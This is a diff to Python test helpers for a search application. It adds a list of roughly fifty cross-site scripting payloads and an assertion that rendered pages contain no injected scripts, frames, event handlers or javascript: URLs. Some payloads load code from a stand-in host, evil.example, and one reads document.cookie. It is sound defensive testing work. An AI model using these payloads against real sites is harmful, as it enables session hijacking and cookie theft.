@@ -32,3 +32,98 @@ def make_pdf(lines: list[str]) -> bytes:
         f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
     )
     return bytes(out)
+
+
+# Script-injection payloads of many kinds (tags, attributes, URLs, encodings, template and
+# SVG tricks). Used against queries, facet values, saved-search names and ingested documents.
+XSS_PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" onerror="alert(1)">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href=javascript:alert(1)>x</a>",
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select onfocus=alert(1) autofocus>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<math><mtext><script>alert(1)</script>",
+    "<form action=javascript:alert(1)><button>x",
+    "<isindex action=javascript:alert(1) type=image>",
+    "<link rel=import href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href=//evil.example/>",
+    '<div style="background:url(javascript:alert(1))">',
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<table background=javascript:alert(1)>",
+    "<img src=`x`onerror=alert(1)>",
+    "<img/src/onerror=alert(1)>",
+    "<svg/onload=alert(1)//",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "javascript:alert(document.cookie)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "<!--<script>alert(1)//-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    "<keygen autofocus onfocus=alert(1)>",
+]
+
+
+def assert_no_injection(html: str) -> None:
+    """No script, frame, object or event handler made it into the page from a payload."""
+    from bs4 import BeautifulSoup
+
+    page = BeautifulSoup(html, "html.parser")
+    bad_tags = [
+        "script",
+        "iframe",
+        "img",
+        "object",
+        "embed",
+        "base",
+        "video",
+        "audio",
+        "marquee",
+        "math",
+        "keygen",
+        "xss",
+        "isindex",
+        "details",
+        "noscript",
+        "body",
+    ]
+    found = [t.name for t in page.find_all(bad_tags) if t.name != "body" or t.attrs]
+    assert not found, found
+    assert len(page.find_all("svg")) == len(page.select("svg.timeline")), "foreign svg"
+    for tag in page.find_all(True):
+        assert not any(attr.lower().startswith("on") for attr in tag.attrs), tag
+        for attr in ("href", "src", "action", "data", "background", "formaction"):
+            value = str(tag.get(attr, "")).strip().lower()
+            assert not value.startswith(("javascript:", "data:text/html")), tag
+        if tag.name == "meta":
+            assert "url=" not in str(tag.get("content", "")).lower(), tag
